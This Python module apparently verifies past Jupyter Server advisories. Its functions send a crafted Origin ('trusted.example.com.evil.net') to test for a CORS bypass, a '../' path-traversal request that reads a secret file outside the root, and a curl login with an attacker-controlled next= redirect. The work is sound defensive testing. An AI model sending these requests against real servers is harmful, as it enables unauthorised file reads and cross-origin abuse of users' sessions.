"""What a remote client observes of the attacks of past Jupyter Server advisories (claims ADV-01, ADV-02).

Used by ``runbooks/advisories/jupyter-server.md``.  Each function sends the
advisory's request from the client machine, the way an attacker's page or a
confined user would, and returns what the server answered.
"""

from __future__ import annotations

from urllib.parse import quote

from jsv.claims import Observation
from jsv.environments import JupyterServer, NetClient
from jsv.probes.login import register_jar

TRUSTED_ORIGIN = "https://trusted.example.com"
ORIGIN_PATTERN = r"https://trusted\.example\.com"
ATTACKER_ORIGIN = TRUSTED_ORIGIN + ".evil.net"
ROOT_DIR = "/srv/work"
SIBLING_FILE = "/srv/workshop/secret.txt"
"""A file in a directory next to the root whose name starts with the root's name."""


def server_setup() -> list[str]:
    """The configuration both sides of ADV-01/ADV-02 share: a pattern, a root, and hidden files allowed.

    ``allow_hidden``: with it off, jupyter_core 5.9's ``is_hidden`` raises for a path outside the
    root (a 500 on both releases), so the advisory's read is reachable only with hidden files allowed.
    """
    return [
        f"c.ServerApp.allow_origin_pat = r'{ORIGIN_PATTERN}'",
        f"c.ServerApp.root_dir = '{ROOT_DIR}'",
        "c.ContentsManager.allow_hidden = True",
    ]


def origin_echo(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-01: which origins the server grants CORS to, the trusted one and the attacker's."""
    answers, transcripts = {}, []
    for label, origin in (("trusted origin", TRUSTED_ORIGIN), ("attacker origin", ATTACKER_ORIGIN)):
        reply = client.http(
            target.url("/api/status"), "-H", f"Origin: {origin}", "-H", f"Authorization: token {target.token}"
        )
        answers[label] = reply.headers.get("access-control-allow-origin")
        transcripts.append(reply.transcript)
    return Observation(answers, "\n\n".join(transcripts))


def sibling_read(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-02: ``GET /api/contents/../workshop/secret.txt`` sent as is (no client-side normalisation)."""
    sibling = SIBLING_FILE.removeprefix("/srv/")
    reply = client.http(
        target.url(f"/api/contents/../{sibling}"),
        "--path-as-is",
        "-H",
        f"Authorization: token {target.token}",
    )
    return Observation(reply.status, reply.transcript)


def login_redirect(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-03: log in with the token and ``next=`` the attacker's origin; where the browser is sent."""
    next_url = quote(ATTACKER_ORIGIN + "/", safe="")
    base = target.url("").rstrip("/")
    ran = client.run(
        f"rm -f /tmp/jar; curl -sk -c /tmp/jar -o /dev/null '{base}/login'\n"
        "xsrf=$(awk '$6==\"_xsrf\" {print $7}' /tmp/jar)\n"
        "curl -sk -b /tmp/jar -c /tmp/jar -o /dev/null -w '%{http_code} %{redirect_url}\\n' "
        f'--data-urlencode "_xsrf=$xsrf" --data-urlencode "password={target.token}" '
        f"'{base}/login?next={next_url}'"
    )
    register_jar(client, "/tmp/jar")
    return Observation(ran.stdout.strip(), ran.transcript)
